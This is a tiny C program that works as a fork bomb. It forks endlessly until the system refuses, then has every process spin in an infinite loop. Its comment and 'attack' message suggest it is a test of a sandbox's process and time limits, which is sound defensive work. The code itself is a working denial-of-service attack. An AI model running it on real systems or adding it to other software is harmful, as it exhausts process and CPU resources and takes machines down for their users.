// time limit: forks without end, and works on in every process when one more is refused
#include <stdio.h>
#include <unistd.h>

int main(void)
{
    fprintf(stderr, "attack: fork without end\n");
    while (fork() >= 0)
        continue;
    for (volatile unsigned turn = 0;; turn++) {
    }
}
